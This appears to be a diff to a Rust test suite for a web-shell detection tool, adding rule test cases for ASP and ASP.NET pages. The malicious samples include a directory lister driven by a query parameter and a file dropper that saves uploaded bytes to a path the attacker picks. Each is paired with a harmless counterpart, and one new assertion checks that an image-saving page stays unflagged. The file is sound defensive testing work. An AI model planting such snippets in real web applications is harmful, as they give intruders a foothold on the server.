@@ -584,6 +584,16 @@ fn cases() -> Vec<Case> {
             "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\n[DllImport(\"advapi32.dll\")] static extern int LogonUser(string u, string d, string p, int t, int v, ref IntPtr h);\nvoid Go(object o, EventArgs e) {\n IntPtr h = IntPtr.Zero;\n LogonUser(ConfigurationManager.AppSettings[\"ReportUser\"], \"CORP\", ConfigurationManager.AppSettings[\"ReportPassword\"], 2, 0, ref h);\n using (new WindowsIdentity(h).Impersonate()) { lblShare.Text = File.ReadAllText(txtReport.Text); }\n}\n</script>\n",
         ),
         case(
+            "EXRAY_File_Op_Request_Path",
+            "<%@ Page Language=\"C#\" %>\n<% foreach (var f in System.IO.Directory.GetFiles(Request.QueryString[\"d\"])) Response.Write(f + \"<br>\"); %>\n",
+            "<%@ Page Language=\"C#\" %>\n<% foreach (var f in System.IO.Directory.GetFiles(Server.MapPath(\"~/gallery/\" + System.IO.Path.GetFileName(Request.QueryString[\"album\"])))) Response.Write(System.IO.Path.GetFileName(f) + \"<br>\"); %>\n",
+        ),
+        case(
+            "EXRAY_File_Dropper_Flow",
+            "<%\nSet st = Server.CreateObject(\"ADODB.Stream\")\nst.Type = 1\nst.Open\nst.Write Request.BinaryRead(Request.TotalBytes)\nst.SaveToFile Server.MapPath(Request.QueryString(\"n\")), 2\nst.Close\n%>\n",
+            "<%\nSet fso = Server.CreateObject(\"Scripting.FileSystemObject\")\nSet f = fso.OpenTextFile(Server.MapPath(\"data/book.txt\"), 8, True)\nf.WriteLine Server.HTMLEncode(Request.Form(\"name\")) & vbTab & Server.HTMLEncode(Request.Form(\"msg\"))\nf.Close\nResponse.Redirect \"book.asp\"\n%>\n",
+        ),
+        case(
             "EXRAY_Membership_Password_Dump",
             "<%@ Page Language=\"VB\" %>\n<script runat=\"server\">\nSub Page_Load(s As Object, e As EventArgs)\n For Each u As UserInfo In UserController.GetUsers(False, True, -1)\n  lbl.Text &= u.Username & \": \" & UserController.GetPassword(u, \"\") & \" (password)<br/>\"\n Next\nEnd Sub\n</script>\n",
             "<%@ Page Language=\"VB\" %>\n<script runat=\"server\">\nSub Remind(s As Object, e As EventArgs)\n Dim u As UserInfo = UserController.GetUserByName(0, txtUser.Text)\n Mail.Send(u.Email, \"Reminder\", UserController.GetPassword(u, txtAnswer.Text))\n lblInfo.Text = \"Your password was sent to your address.\"\n For Each r As String In u.Roles\n  lblRoles.Text &= r\n Next\nEnd Sub\n</script>\n",
@@ -798,6 +808,9 @@ fn obfuscated_one_liner_variants() {
     // A forwarder to one fixed backend is not a relay to anywhere.
     let fixed = "<%@ Page Language=\"C#\" %>\n<%\nstring id = Request.Form[\"order\"];\nbyte[] b = new byte[Request.ContentLength];\nRequest.InputStream.Read(b, 0, b.Length);\nvar r = (HttpWebRequest)WebRequest.Create(\"https://payments.example/api/notify\");\nr.GetRequestStream().Write(b, 0, b.Length);\nResponse.Write(\"ok\");\n%>";
     assert!(!hits(fixed).contains("EXRAY_HTTP_Proxy_Request_Url"));
+    // A page that saves an image from the URL it is given, and says so, relays nothing back.
+    let saver = "<%\nu = Request(\"url\")\nSet h = CreateObject(\"WinHttp.WinHttpRequest.5.1\")\nh.Open \"GET\", u, False\nh.Send\nSet st = CreateObject(\"ADODB.Stream\")\nst.Type = 1\nst.Open\nst.Write h.ResponseBody\nst.SaveToFile Server.MapPath(\"images/preview.jpg\"), 2\nResponse.Write(\"Image has been saved\")\n%>";
+    assert!(hits(saver).is_empty(), "{:?}", hits(saver));
     // Client-side JavaScript that evaluates a variable next to a Replace() of another: no decoder.
     let client = "<%\nname = Replace(name, \"-\", \"\")\n%>\n<script>\nvar cfg = load();\n"
         .to_string()
